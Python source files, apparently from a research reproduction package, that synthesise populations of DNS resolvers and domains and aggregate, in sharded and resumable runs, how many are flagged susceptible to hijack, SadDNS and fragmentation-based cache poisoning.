from repro.parallel.workers import resolve_workers
from repro.atlas.shards import (
    DatasetSpec,
    ShardRange,
    dataset_kind,
    population_spec_hash,
    shard_ranges,
)
from repro.atlas.store import AtlasStore, ShardRecord
from repro.atlas.synth import iter_entities
from repro.measurements.population import (
    DOMAIN_DATASETS,
    RESOLVER_DATASETS,
    DomainProfile,
    FrontEnd,
)
from repro.measurements.scanner import SurveySummary

EXECUTORS = ("process", "serial")


def run_tasks(fn: Callable[[Any], Any], tasks: list[Any],
              workers: int | str | None = None,
              executor: str = "process",
              on_result: Callable[[int, Any], None] | None = None
              ) -> tuple[list[Any], str, int]:
    """Map picklable tasks over a process pool (or the serial reference).

    Returns ``(results, executor_used, workers_used)``; the pool
    downgrades to the serial loop when it could not help (one worker or
    one task), mirroring the campaign runner's behaviour so 1-vCPU
    hosts document serial parity instead of paying pool overhead.

    Results stream: ``on_result(index, result)`` fires as each task
    finishes (completion order on the pool, task order on the serial
    loop), so callers can merge aggregates or append to stores while
    later tasks are still computing instead of waiting on an eager
    end-of-run list.  The returned list is always in task order.
    """
    if executor not in EXECUTORS:
        raise ValueError(
            f"unknown executor {executor!r}; pick one of {EXECUTORS}")
    count = resolve_workers(workers)
    count = min(count, len(tasks)) or 1
    if executor == "process" and count == 1:
        executor = "serial"
    if executor == "serial":
        results = []
        for index, task in enumerate(tasks):
            result = fn(task)
            results.append(result)
            if on_result is not None:
                on_result(index, result)
        return results, "serial", 1
    with ProcessPoolExecutor(max_workers=count) as pool:
        # Work-stealing dispatch: a bounded window of in-flight futures
        # keeps every worker busy regardless of per-shard skew, and the
        # first result merges before the last shard is computed.
        results = run_stealing(pool, fn, tasks, window=2 * count,
                               on_result=on_result)
    return results, "process", count


def _scan_shard(task: tuple[DatasetSpec, Any, ShardRange, str, str]
                ) -> ShardRecord:
    """Worker entry point: scan one shard into an aggregate.

    Dispatches to the batch-vectorised columnar kernel (or its pure-
    Python columnar fallback) — bit-identical to streaming the shard's
    entities through the serial observers, which ``kernel="scalar"``
    still does.
    """
    spec, seed, shard, spec_hash, kernel = task
    kind = dataset_kind(spec)
    started = time.perf_counter()
    aggregate = scan_range(spec, seed, shard.lo, shard.hi, kernel=kernel)
    return ShardRecord(
        spec_hash=spec_hash,
        shard_id=shard.shard_id,
        dataset=spec.key,
        kind=kind,
        lo=shard.lo,
        hi=shard.hi,
        wall_time=time.perf_counter() - started,
        aggregate=aggregate,
    )


def _observe_shard(record: ShardRecord) -> None:
    """Coordinator-side obs for one finished shard (call only behind
    an ``OBS.enabled`` check): counters, wall histogram, and a span
    synthesized from the wall time the worker already measured — no
    worker-side instrumentation, so the scan payloads never change."""
    entities = record.hi - record.lo
    OBS.counter("atlas.shards_computed_total",
                dataset=record.dataset).inc()
    OBS.counter("atlas.entities_scanned_total",
                dataset=record.dataset).inc(entities)
    OBS.histogram("atlas.shard_wall_ms", edges=STAGE_EDGES_MS,
                  dataset=record.dataset).observe(
        record.wall_time * 1000.0)
    OBS.spans.record("atlas.shard", record.wall_time,
                     shard=record.shard_id, entities=entities)


def _scan_missing_serial(spec, seed, missing: list[ShardRange],
                         spec_hash: str, kernel: str,
                         on_result: Callable[[int, ShardRecord], None]
                         ) -> list[ShardRecord]:
    """Serial scan of the missing shards, batched *across* shards.

    Contiguous runs of missing shards are scanned as one columnar span
    (per-shard aggregates are sliced out of shared batches), so many
    small shards cost the same as one big one.  Wall time is
    apportioned to shards by entity count.
    """
    kind = dataset_kind(spec)
    records: list[ShardRecord] = []
    runs: list[list[ShardRange]] = []
    for shard in missing:
        if runs and runs[-1][-1].hi == shard.lo:
            runs[-1].append(shard)
        else:
            runs.append([shard])
    scanner = VectorScanner(spec, seed) if kernel in ("auto", "vector") \
        and vector_available() else None
    for run in runs:
        sinks = [(shard.lo, shard.hi, ScanAggregate(kind=kind))
                 for shard in run]
        started = time.perf_counter()
        if scanner is not None:
            scanner.scan_spans(sinks)
        else:
            for cut_lo, cut_hi, aggregate in sinks:
                scan_range(spec, seed, cut_lo, cut_hi, aggregate,
                           kernel=kernel)
        elapsed = time.perf_counter() - started
        total = sum(shard.hi - shard.lo for shard in run) or 1
        for shard, (_, _, aggregate) in zip(run, sinks):
            record = ShardRecord(
                spec_hash=spec_hash, shard_id=shard.shard_id,
                dataset=spec.key, kind=kind, lo=shard.lo, hi=shard.hi,
                wall_time=elapsed * (shard.hi - shard.lo) / total,
                aggregate=aggregate,
            )
            records.append(record)
            on_result(len(records) - 1, record)
    return records


@dataclass
class AtlasScanReport:
    """Everything one dataset's sharded scan produced."""

    dataset: str
    label: str
    kind: str
    spec_hash: str
    entities: int
    full_size: int
    shard_count: int
    computed_shards: list[int]
    cached_shards: list[int]
    computed_entities: int
    wall_clock: float
    executor: str
    workers: int
    aggregate: ScanAggregate
    summary: SurveySummary
    notes: list[str] = field(default_factory=list)
    entities_kept: list[FrontEnd | DomainProfile] | None = None

    @property
    def entities_per_second(self) -> float:
        """Scan throughput over freshly computed entities only."""
        if self.wall_clock <= 0:
            return 0.0
        return self.computed_entities / self.wall_clock


def scan_dataset(spec: DatasetSpec, seed: int | str = 0,
                 entities: int | None = None, shards: int = 16,
                 workers: int | str | None = None,
                 executor: str = "process",
                 store: AtlasStore | None = None,
                 keep_entities: bool = False,
                 kernel: str = "auto") -> AtlasScanReport:
    """Scan one dataset's synthetic population, sharded and resumable.

    ``entities`` defaults to the dataset's **full** paper size (1.58M
    for open resolvers) — the atlas exists so that is computable, not
    extrapolated.  Pass a smaller count for sampled runs.

    ``workers`` accepts a count, ``None`` (capped default) or
    ``"auto"`` (every schedulable CPU); ``kernel`` picks the per-shard
    scan implementation (``"auto"``/``"vector"``/``"python"``/
    ``"scalar"`` — all bit-identical, see :mod:`repro.parallel.kernel`).

    ``keep_entities`` retains the generated entities on the report (for
    the sampled experiment paths that also need per-entity access, e.g.
    the Figure 5 Venn flags); it forces the serial executor, holds the
    whole population in memory, and cannot be combined with a store.
    """
    kind = dataset_kind(spec)
    if executor not in EXECUTORS:
        raise ValueError(
            f"unknown executor {executor!r}; pick one of {EXECUTORS}")
    if entities is not None and entities < 0:
        raise ValueError(f"entities must be >= 0, got {entities}")
    total = min(entities, spec.full_size) if entities is not None \
        else spec.full_size
    spec_hash = population_spec_hash(spec, seed, total)
    ranges = shard_ranges(total, shards)
    notes: list[str] = []

    cached: dict[int, ShardRecord] = {}
    if store is not None:
        for shard_id, record in store.load(spec_hash).items():
            matching = next((r for r in ranges
                             if r.shard_id == shard_id), None)
            if matching is not None and (record.lo, record.hi) == \
                    (matching.lo, matching.hi):
                cached[shard_id] = record
            else:
                notes.append(
                    f"stored shard {shard_id} has a different range; "
                    "recomputing")
    missing = [r for r in ranges if r.shard_id not in cached]

    if keep_entities:
        if store is not None:
            # Cached shards would be missing from entities_kept while
            # the aggregate covered them — a silently partial list.
            raise ValueError(
                "keep_entities cannot be combined with a store; "
                "materialised runs always regenerate")
        executor = "serial"

    scan_span = None
    if OBS.enabled:
        scan_span = OBS.spans.start(
            "atlas.scan", dataset=spec.key, entities=total,
            shards=len(ranges), missing=len(missing))
        if cached:
            OBS.counter("atlas.shards_cached_total",
                        dataset=spec.key).inc(len(cached))
    kept: list[FrontEnd | DomainProfile] | None = None
    try:
        with stage("atlas.scan", dataset=spec.key) as timer:
            if keep_entities:
                # Serial streaming path that also materialises the
                # entities: used by the sampled Table 3/4 runs which
                # hand populations to Figures 3/5.
                kept = []
                fresh = []
                for shard in missing:
                    aggregate = ScanAggregate(kind=kind)
                    shard_started = time.perf_counter()
                    for entity in iter_entities(spec, seed=seed,
                                                lo=shard.lo,
                                                hi=shard.hi):
                        kept.append(entity)
                        aggregate.observe(entity)
                    fresh.append(ShardRecord(
                        spec_hash=spec_hash, shard_id=shard.shard_id,
                        dataset=spec.key, kind=kind, lo=shard.lo,
                        hi=shard.hi,
                        wall_time=time.perf_counter() - shard_started,
                        aggregate=aggregate,
                    ))
                executor_used, workers_used = "serial", 1
                if OBS.enabled:
                    for record in fresh:
                        _observe_shard(record)
                if store is not None:
                    for record in fresh:
                        store.append(record)
            else:
                # Stream every completed shard straight into the
                # store: an interrupted scan keeps everything finished
                # so far, and memory never holds more than the (small)
                # aggregate records.
                def on_result(_index: int,
                              record: ShardRecord) -> None:
                    if OBS.enabled:
                        _observe_shard(record)
                    if store is not None:
                        store.append(record)

                count = min(resolve_workers(workers),
                            len(missing)) or 1
                if executor == "serial" or count == 1:
                    fresh = _scan_missing_serial(
                        spec, seed, missing, spec_hash, kernel,
                        on_result)
                    executor_used, workers_used = "serial", 1
                else:
                    tasks = [(spec, seed, shard, spec_hash, kernel)
                             for shard in missing]
                    fresh, executor_used, workers_used = run_tasks(
                        _scan_shard, tasks, workers=count,
                        executor=executor, on_result=on_result)
    finally:
        if scan_span is not None:
            OBS.spans.finish(scan_span)
    wall_clock = timer.elapsed

    ordered = sorted(list(cached.values()) + fresh,
                     key=lambda record: record.shard_id)
    aggregate = ScanAggregate.merged(kind, [r.aggregate for r in ordered])
    if cached:
        notes.append(
            f"resumed: {len(cached)}/{len(ranges)} shards loaded from "
            "the store, only the rest recomputed")
    if executor == "process" and executor_used == "serial" and missing:
        notes.append("process executor downgraded to serial "
                     "(one worker or one shard)")
    report = AtlasScanReport(
        dataset=spec.key,
        label=spec.label,
        kind=kind,
        spec_hash=spec_hash,
        entities=total,
        full_size=spec.full_size,
        shard_count=len(ranges),
        computed_shards=[r.shard_id for r in fresh],
        cached_shards=sorted(cached),
        computed_entities=sum(r.hi - r.lo for r in fresh),
        wall_clock=wall_clock,
        executor=executor_used,
        workers=workers_used,
        aggregate=aggregate,
        summary=aggregate.to_summary(spec.label, spec.full_size),
        notes=notes,
        entities_kept=kept,
    )
    return report


def scan_many(specs: Iterable[DatasetSpec], seed: int | str = 0,
              entities: int | None = None, shards: int = 16,
              workers: int | str | None = None, executor: str = "process",
              store: AtlasStore | None = None,
              kernel: str = "auto") -> list[AtlasScanReport]:
    """Scan several datasets, reusing one configuration."""
    return [
        scan_dataset(spec, seed=seed, entities=entities, shards=shards,
                     workers=workers, executor=executor, store=store,
                     kernel=kernel)
        for spec in specs
    ]


def all_dataset_specs() -> list[DatasetSpec]:
    """Every Table 3 and Table 4 calibration row."""
    return list(RESOLVER_DATASETS) + list(DOMAIN_DATASETS)
