"""Sharded population synthesis: constant-memory entity streams.

The monolithic :class:`repro.measurements.population.PopulationGenerator`
threads one RNG stream through a whole dataset, so entity *N* cannot be
produced without first producing entities *0..N-1*.  The atlas breaks
that dependency: every entity derives its own RNG stream from
``(seed, kind, dataset, index)`` and its addresses from ``index`` alone,
then runs the *same* per-entity draw kernel
(:func:`repro.measurements.population.draw_resolver_profile` /
:func:`draw_domain_profile`).  Consequences:

* a shard producer can start at any index — shards are seekable;
* concatenating shard streams in index order is **bit-for-bit equal**
  to the monolithic ``[0, entities)`` stream (each entity depends only
  on its own index);
* producers are generators: memory stays constant no matter whether the
  population is 40 entities or the paper's 1.58M open resolvers.
"""

from __future__ import annotations

import hashlib
from typing import Iterable, Iterator

from repro.core.rng import DeterministicRNG
from repro.measurements.population import (
    DomainDatasetSpec,
    DomainProfile,
    FrontEnd,
    ResolverDatasetSpec,
    domain_rates,
    draw_domain_profile,
    draw_resolver_profile,
    resolver_prefix_mix,
)
from repro.netsim.addresses import int_to_ip

# Same 11.0.0.0-based stride walk the monolithic generator uses, but
# computed from the entity index so any shard can address its entities
# without a shared counter.
_ADDRESS_BASE = 0x0B000000
_ADDRESS_STRIDE = 7


def atlas_address(slot: int) -> str:
    """Deterministic address for one global entity/sub-entity slot."""
    raw = _ADDRESS_BASE + (slot + 1) * _ADDRESS_STRIDE
    return int_to_ip(raw & 0xDFFFFFFF | _ADDRESS_BASE)


def _dataset_rng(seed: int | str, kind: str, key: str) -> DeterministicRNG:
    return DeterministicRNG(seed).derive(f"atlas/{kind}/{key}")


def iter_front_ends(spec: ResolverDatasetSpec, seed: int | str = 0,
                    lo: int = 0, hi: int | None = None
                    ) -> Iterator[FrontEnd]:
    """Stream front-end systems ``lo..hi`` of one Table 3 population."""
    if hi is None:
        hi = spec.full_size
    root = _dataset_rng(seed, "resolver", spec.key)
    prefix_mix = resolver_prefix_mix(spec)
    per_fe = spec.resolvers_per_frontend
    for index in range(lo, hi):
        rng = root.derive(str(index))
        resolvers = [
            draw_resolver_profile(
                rng, spec, atlas_address(index * per_fe + sub),
                prefix_mix=prefix_mix,
                icmp_rng=rng.derive(f"icmp-{sub}"),
            )
            for sub in range(per_fe)
        ]
        yield FrontEnd(identifier=f"{spec.key}-{index}", resolvers=resolvers)


def iter_domains(spec: DomainDatasetSpec, seed: int | str = 0,
                 lo: int = 0, hi: int | None = None
                 ) -> Iterator[DomainProfile]:
    """Stream domains ``lo..hi`` of one Table 4 population."""
    if hi is None:
        hi = spec.full_size
    root = _dataset_rng(seed, "domain", spec.key)
    rates = domain_rates(spec)
    n_ns = spec.ns_per_domain
    for index in range(lo, hi):
        rng = root.derive(str(index))
        addresses = [atlas_address(index * n_ns + sub)
                     for sub in range(n_ns)]
        yield draw_domain_profile(rng, spec, f"{spec.key}-{index}.example",
                                  addresses, rates=rates)


def iter_entities(spec, seed: int | str = 0, lo: int = 0,
                  hi: int | None = None) -> Iterator[FrontEnd | DomainProfile]:
    """Kind-dispatching entity stream for one dataset."""
    if isinstance(spec, ResolverDatasetSpec):
        return iter_front_ends(spec, seed=seed, lo=lo, hi=hi)
    return iter_domains(spec, seed=seed, lo=lo, hi=hi)


def stream_checksum(entities: Iterable[FrontEnd | DomainProfile]) -> str:
    """Rolling digest of an entity stream (order-sensitive, O(1) memory).

    Used by ``python -m repro.atlas synth --verify`` to prove that a
    shard-merged stream equals the monolithic stream without ever
    holding either in memory.
    """
    digest = hashlib.sha256()
    for entity in entities:
        if isinstance(entity, FrontEnd):
            digest.update(entity.identifier.encode())
            for resolver in entity.resolvers:
                digest.update(repr((
                    resolver.address, resolver.asn, resolver.prefix_length,
                    resolver.reachable, resolver.icmp.randomized,
                    resolver.accepts_fragments, resolver.edns_size,
                )).encode())
        else:
            digest.update(entity.name.encode())
            digest.update(b"1" if entity.signed else b"0")
            for ns in entity.nameservers:
                digest.update(repr((
                    ns.address, ns.asn, ns.prefix_length, ns.honours_ptb,
                    ns.min_frag_size, ns.rrl_enabled, ns.ipid_global,
                    ns.supports_any, ns.base_response_size,
                )).encode())
    return digest.hexdigest()
