"""Sharded population synthesis: constant-memory entity streams.

The monolithic :class:`repro.measurements.population.PopulationGenerator`
threads one RNG stream through a whole dataset, so entity *N* cannot be
produced without first producing entities *0..N-1*.  The atlas breaks
that dependency: every entity derives its own RNG stream from
``(seed, kind, dataset, index)`` and its addresses from ``index`` alone,
then runs the *same* per-entity draw kernel
(:func:`repro.measurements.population.draw_resolver_profile` /
:func:`draw_domain_profile`).  Consequences:

* a shard producer can start at any index — shards are seekable;
* concatenating shard streams in index order is **bit-for-bit equal**
  to the monolithic ``[0, entities)`` stream (each entity depends only
  on its own index);
* producers are generators: memory stays constant no matter whether the
  population is 40 entities or the paper's 1.58M open resolvers.
"""

from __future__ import annotations

import hashlib
from dataclasses import replace
from typing import Iterable, Iterator

from repro.core.rng import DeterministicRNG
from repro.measurements.population import (
    DomainDatasetSpec,
    DomainProfile,
    FrontEnd,
    MixSampler,
    ResolverDatasetSpec,
    domain_rates,
    draw_domain_profile,
    draw_resolver_profile,
    resolver_prefix_mix,
    resolver_rates,
)
# Same 11.0.0.0-based stride walk the monolithic generator uses, but
# computed from the entity index so any shard can address its entities
# without a shared counter.
_ADDRESS_BASE = 0x0B000000
_ADDRESS_STRIDE = 7


def atlas_address(slot: int) -> str:
    """Deterministic address for one global entity/sub-entity slot."""
    # int_to_ip inlined: the masked value is always in range, and this
    # runs once per sub-entity over million-entity populations.
    value = (_ADDRESS_BASE + (slot + 1) * _ADDRESS_STRIDE) \
        & 0xDFFFFFFF | _ADDRESS_BASE
    return (f"{(value >> 24) & 0xFF}.{(value >> 16) & 0xFF}"
            f".{(value >> 8) & 0xFF}.{value & 0xFF}")


def _dataset_rng(seed: int | str, kind: str, key: str) -> DeterministicRNG:
    return DeterministicRNG(seed).derive(f"atlas/{kind}/{key}")


def iter_front_ends(spec: ResolverDatasetSpec, seed: int | str = 0,
                    lo: int = 0, hi: int | None = None,
                    reuse_rng: bool = False) -> Iterator[FrontEnd]:
    """Stream front-end systems ``lo..hi`` of one Table 3 population.

    ``reuse_rng=True`` is the streaming fast path for consumers that
    fully process each entity before advancing (the shard scanners): the
    per-entity and per-resolver RNGs are one pair of scratch generators
    re-derived in place — bit-identical streams, no per-entity generator
    allocations — so entities from earlier iterations must not be
    retained (their ``icmp.rng`` is re-seeded by the next iteration).
    """
    if hi is None:
        hi = spec.full_size
    root = _dataset_rng(seed, "resolver", spec.key)
    prefix_mix = MixSampler(resolver_prefix_mix(spec))
    rates = resolver_rates(spec)
    per_fe = spec.resolvers_per_frontend
    # Loop-invariant labels and prefixes, hoisted: this loop runs once
    # per entity over million-entity populations.
    icmp_labels = [f"icmp-{sub}" for sub in range(per_fe)]
    subs = range(per_fe)
    key_prefix = spec.key + "-"
    if reuse_rng:
        scratch = DeterministicRNG(0)
        scratch_icmps = [DeterministicRNG(0) for _ in subs]
        for index in range(lo, hi):
            text = str(index)
            scratch.rederive(root, text)
            base_slot = index * per_fe
            resolvers = []
            for sub in subs:
                icmp_rng = scratch_icmps[sub]
                icmp_rng.rederive(scratch, icmp_labels[sub])
                resolvers.append(draw_resolver_profile(
                    scratch, spec, atlas_address(base_slot + sub),
                    prefix_mix=prefix_mix, icmp_rng=icmp_rng,
                    rates=rates,
                ))
            yield FrontEnd(identifier=key_prefix + text,
                           resolvers=resolvers)
        return
    derive = root.derive
    for index in range(lo, hi):
        rng = derive(str(index))
        base_slot = index * per_fe
        resolvers = [
            draw_resolver_profile(
                rng, spec, atlas_address(base_slot + sub),
                prefix_mix=prefix_mix,
                icmp_rng=rng.derive(icmp_labels[sub]),
                rates=rates,
            )
            for sub in subs
        ]
        yield FrontEnd(identifier=key_prefix + str(index),
                       resolvers=resolvers)


def iter_domains(spec: DomainDatasetSpec, seed: int | str = 0,
                 lo: int = 0, hi: int | None = None,
                 reuse_rng: bool = False) -> Iterator[DomainProfile]:
    """Stream domains ``lo..hi`` of one Table 4 population.

    ``reuse_rng`` re-derives one scratch generator per entity in place
    (see :func:`iter_front_ends`); domain entities never retain their
    RNG, so the only constraint is streaming consumption.
    """
    if hi is None:
        hi = spec.full_size
    root = _dataset_rng(seed, "domain", spec.key)
    rates = domain_rates(spec)
    rates = replace(rates, prefix_mix=MixSampler(rates.prefix_mix))
    n_ns = spec.ns_per_domain
    subs = range(n_ns)
    key_prefix = spec.key + "-"
    if reuse_rng:
        scratch = DeterministicRNG(0)
        for index in range(lo, hi):
            text = str(index)
            scratch.rederive(root, text)
            base_slot = index * n_ns
            addresses = [atlas_address(base_slot + sub) for sub in subs]
            yield draw_domain_profile(scratch, spec,
                                      key_prefix + text + ".example",
                                      addresses, rates=rates)
        return
    derive = root.derive
    for index in range(lo, hi):
        rng = derive(str(index))
        base_slot = index * n_ns
        addresses = [atlas_address(base_slot + sub) for sub in subs]
        yield draw_domain_profile(rng, spec,
                                  key_prefix + str(index) + ".example",
                                  addresses, rates=rates)


def iter_entities(spec, seed: int | str = 0, lo: int = 0,
                  hi: int | None = None,
                  reuse_rng: bool = False
                  ) -> Iterator[FrontEnd | DomainProfile]:
    """Kind-dispatching entity stream for one dataset."""
    if isinstance(spec, ResolverDatasetSpec):
        return iter_front_ends(spec, seed=seed, lo=lo, hi=hi,
                               reuse_rng=reuse_rng)
    return iter_domains(spec, seed=seed, lo=lo, hi=hi, reuse_rng=reuse_rng)


def stream_checksum(entities: Iterable[FrontEnd | DomainProfile]) -> str:
    """Rolling digest of an entity stream (order-sensitive, O(1) memory).

    Used by ``python -m repro.atlas synth --verify`` to prove that a
    shard-merged stream equals the monolithic stream without ever
    holding either in memory.
    """
    digest = hashlib.sha256()
    for entity in entities:
        if isinstance(entity, FrontEnd):
            digest.update(entity.identifier.encode())
            for resolver in entity.resolvers:
                digest.update(repr((
                    resolver.address, resolver.asn, resolver.prefix_length,
                    resolver.reachable, resolver.icmp.randomized,
                    resolver.accepts_fragments, resolver.edns_size,
                )).encode())
        else:
            digest.update(entity.name.encode())
            digest.update(b"1" if entity.signed else b"0")
            for ns in entity.nameservers:
                digest.update(repr((
                    ns.address, ns.asn, ns.prefix_length, ns.honours_ptb,
                    ns.min_frag_size, ns.rrl_enabled, ns.ipid_global,
                    ns.supports_any, ns.base_response_size,
                )).encode())
    return digest.hexdigest()
