"""Mergeable streaming aggregates for population-scale scans.

A shard worker never materialises its entities: it feeds each one
through the Section 5 scanners and folds the verdicts into a
:class:`ScanAggregate` — counters and histograms with an associative,
commutative :meth:`ScanAggregate.merge`.  Merging all shard aggregates
(in any order) therefore equals aggregating the monolithic stream, which
is what lets Tables 3 and 4 run at the paper's full dataset sizes in
constant memory per worker.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field

from repro.measurements.population import DomainProfile, FrontEnd
from repro.measurements.scanner import (
    SUBPREFIX_HIJACKABLE_BELOW,
    SurveySummary,
    scan_fragmentation,
    scan_nameserver_rrl,
    scan_saddns,
    scan_saddns_verdict,
)

#: Methodology flags per entity kind, in reporting order.
RESOLVER_FLAGS = ("hijack", "saddns", "frag")
DOMAIN_FLAGS = ("hijack", "saddns", "frag_any", "frag_global", "dnssec")

#: The three-methodology stratum axes (domains fold frag_any/global).
STRATUM_FLAGS = ("hijack", "saddns", "frag")


def stratum_key(hijack: bool, saddns: bool, frag: bool) -> str:
    """Canonical name of one vulnerability-profile stratum."""
    return _STRATUM_KEYS[bool(hijack), bool(saddns), bool(frag)]


def _stratum_name(hijack: bool, saddns: bool, frag: bool) -> str:
    parts = [name for name, flag in
             zip(STRATUM_FLAGS, (hijack, saddns, frag)) if flag]
    return "+".join(parts) if parts else "none"


# All eight strata, precomputed: the key is built once per scanned
# entity, millions of times per full-population run.
_STRATUM_KEYS = {
    (h, s, f): _stratum_name(h, s, f)
    for h in (False, True) for s in (False, True) for f in (False, True)
}


@dataclass
class ScanAggregate:
    """Streaming scan statistics for one shard (or a merge of shards)."""

    kind: str
    count: int = 0
    flags: Counter = field(default_factory=Counter)
    strata: Counter = field(default_factory=Counter)
    histograms: dict[str, Counter] = field(default_factory=dict)

    def _bump(self, histogram: str, value: int) -> None:
        counter = self.histograms.get(histogram)
        if counter is None:
            counter = self.histograms[histogram] = Counter()
        counter[value] += 1

    def _histogram(self, name: str) -> Counter:
        counter = self.histograms.get(name)
        if counter is None:
            counter = self.histograms[name] = Counter()
        return counter

    def observe_front_end(self, front_end: FrontEnd,
                          single_use: bool = False) -> None:
        """Scan one front-end system and fold in the verdicts.

        The probe loop is :func:`scan_front_end` fused in (same
        short-circuits, same RNG consumption) so the per-entity path
        builds no intermediate result object.  ``single_use=True``
        switches the SadDNS probe to the pruned
        :func:`scan_saddns_verdict` — identical verdicts, but the
        entity's ICMP RNG may be left mid-stream, so it is only valid
        when the entity is discarded after this call (the aggregate-only
        shard scans).
        """
        saddns_probe = scan_saddns_verdict if single_use else scan_saddns
        hijack = saddns = frag = False
        self.count += 1
        if front_end.resolvers:
            prefix_hist = self._histogram("prefix_length")
            for resolver in front_end.resolvers:
                if not hijack and resolver.prefix_length < SUBPREFIX_HIJACKABLE_BELOW:
                    hijack = True
                if not saddns and saddns_probe(resolver):
                    saddns = True
                if not frag and scan_fragmentation(resolver):
                    frag = True
                prefix_hist[resolver.prefix_length] += 1
                if resolver.reachable and resolver.edns_size is not None:
                    self._bump("edns_size", resolver.edns_size)
        flags = self.flags
        if hijack:
            flags["hijack"] += 1
        if saddns:
            flags["saddns"] += 1
        if frag:
            flags["frag"] += 1
        self.strata[_STRATUM_KEYS[hijack, saddns, frag]] += 1

    def observe_domain(self, domain: DomainProfile,
                       single_use: bool = False) -> None:
        """Scan one domain and fold in the verdicts (fused scan loop).

        ``single_use`` is accepted for symmetry with
        :meth:`observe_front_end`; domain scanning consumes no RNG, so
        both modes are identical.
        """
        hijack = saddns = frag_any = frag_global = False
        self.count += 1
        if domain.nameservers:
            prefix_hist = self._histogram("prefix_length")
            for ns in domain.nameservers:
                if not hijack and ns.prefix_length < SUBPREFIX_HIJACKABLE_BELOW:
                    hijack = True
                if not saddns and scan_nameserver_rrl(ns):
                    saddns = True
                if ns.fragments_response("ANY"):
                    frag_any = True
                    if ns.ipid_global:
                        frag_global = True
                prefix_hist[ns.prefix_length] += 1
                if ns.honours_ptb:
                    self._bump("min_frag_size", ns.min_frag_size)
        flags = self.flags
        if hijack:
            flags["hijack"] += 1
        if saddns:
            flags["saddns"] += 1
        if frag_any:
            flags["frag_any"] += 1
        if frag_global:
            flags["frag_global"] += 1
        if domain.signed:
            flags["dnssec"] += 1
        self.strata[_STRATUM_KEYS[hijack, saddns,
                                  frag_any or frag_global]] += 1

    def observe(self, entity: FrontEnd | DomainProfile) -> None:
        if isinstance(entity, FrontEnd):
            self.observe_front_end(entity)
        else:
            self.observe_domain(entity)

    # -- algebra ---------------------------------------------------------------

    def merge(self, other: "ScanAggregate") -> "ScanAggregate":
        """Fold another aggregate in (associative and commutative)."""
        if other.kind != self.kind:
            raise ValueError(
                f"cannot merge {other.kind!r} into {self.kind!r}")
        self.count += other.count
        self.flags.update(other.flags)
        self.strata.update(other.strata)
        for name, histogram in other.histograms.items():
            self.histograms.setdefault(name, Counter()).update(histogram)
        return self

    @classmethod
    def merged(cls, kind: str,
               parts: list["ScanAggregate"]) -> "ScanAggregate":
        total = cls(kind=kind)
        for part in parts:
            total.merge(part)
        return total

    # -- reporting -------------------------------------------------------------

    def pct(self, flag: str) -> float:
        return 100.0 * self.flags.get(flag, 0) / self.count \
            if self.count else 0.0

    def flag_names(self) -> tuple[str, ...]:
        return RESOLVER_FLAGS if self.kind == "resolver" else DOMAIN_FLAGS

    def to_summary(self, dataset: str, full_size: int) -> SurveySummary:
        """The same shape the monolithic scanners summarise into."""
        return SurveySummary(
            dataset=dataset, size=self.count, full_size=full_size,
            percentages={flag: self.pct(flag)
                         for flag in self.flag_names()},
        )

    def histogram_fractions(self, name: str) -> dict[int, float]:
        histogram = self.histograms.get(name, Counter())
        total = sum(histogram.values())
        if not total:
            return {}
        return {value: count / total
                for value, count in sorted(histogram.items())}

    # -- persistence -----------------------------------------------------------

    def to_json(self) -> dict:
        return {
            "kind": self.kind,
            "count": self.count,
            "flags": dict(self.flags),
            "strata": dict(self.strata),
            "histograms": {name: {str(value): count
                                  for value, count in histogram.items()}
                           for name, histogram in self.histograms.items()},
        }

    @classmethod
    def from_json(cls, payload: dict) -> "ScanAggregate":
        return cls(
            kind=payload["kind"],
            count=payload["count"],
            flags=Counter(payload.get("flags", {})),
            strata=Counter(payload.get("strata", {})),
            histograms={
                name: Counter({int(value): count
                               for value, count in histogram.items()})
                for name, histogram in payload.get("histograms", {}).items()
            },
        )
