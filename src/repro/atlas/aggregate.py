"""Mergeable streaming aggregates for population-scale scans.

A shard worker never materialises its entities: it feeds each one
through the Section 5 scanners and folds the verdicts into a
:class:`ScanAggregate` — counters and histograms with an associative,
commutative :meth:`ScanAggregate.merge`.  Merging all shard aggregates
(in any order) therefore equals aggregating the monolithic stream, which
is what lets Tables 3 and 4 run at the paper's full dataset sizes in
constant memory per worker.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field

from repro.measurements.population import DomainProfile, FrontEnd
from repro.measurements.scanner import (
    SurveySummary,
    scan_domain,
    scan_front_end,
)

#: Methodology flags per entity kind, in reporting order.
RESOLVER_FLAGS = ("hijack", "saddns", "frag")
DOMAIN_FLAGS = ("hijack", "saddns", "frag_any", "frag_global", "dnssec")

#: The three-methodology stratum axes (domains fold frag_any/global).
STRATUM_FLAGS = ("hijack", "saddns", "frag")


def stratum_key(hijack: bool, saddns: bool, frag: bool) -> str:
    """Canonical name of one vulnerability-profile stratum."""
    parts = [name for name, flag in
             zip(STRATUM_FLAGS, (hijack, saddns, frag)) if flag]
    return "+".join(parts) if parts else "none"


@dataclass
class ScanAggregate:
    """Streaming scan statistics for one shard (or a merge of shards)."""

    kind: str
    count: int = 0
    flags: Counter = field(default_factory=Counter)
    strata: Counter = field(default_factory=Counter)
    histograms: dict[str, Counter] = field(default_factory=dict)

    def _bump(self, histogram: str, value: int) -> None:
        self.histograms.setdefault(histogram, Counter())[value] += 1

    def observe_front_end(self, front_end: FrontEnd) -> None:
        """Scan one front-end system and fold in the verdicts."""
        result = scan_front_end(front_end)
        self.count += 1
        for flag in RESOLVER_FLAGS:
            if getattr(result, flag):
                self.flags[flag] += 1
        self.strata[stratum_key(result.hijack, result.saddns,
                                result.frag)] += 1
        for resolver in front_end.resolvers:
            self._bump("prefix_length", resolver.prefix_length)
            if resolver.reachable and resolver.edns_size is not None:
                self._bump("edns_size", resolver.edns_size)

    def observe_domain(self, domain: DomainProfile) -> None:
        """Scan one domain and fold in the verdicts."""
        result = scan_domain(domain)
        self.count += 1
        for flag in DOMAIN_FLAGS:
            if getattr(result, flag):
                self.flags[flag] += 1
        self.strata[stratum_key(result.hijack, result.saddns,
                                result.frag_any or result.frag_global)] += 1
        for ns in domain.nameservers:
            self._bump("prefix_length", ns.prefix_length)
            if ns.honours_ptb:
                self._bump("min_frag_size", ns.min_frag_size)

    def observe(self, entity: FrontEnd | DomainProfile) -> None:
        if isinstance(entity, FrontEnd):
            self.observe_front_end(entity)
        else:
            self.observe_domain(entity)

    # -- algebra ---------------------------------------------------------------

    def merge(self, other: "ScanAggregate") -> "ScanAggregate":
        """Fold another aggregate in (associative and commutative)."""
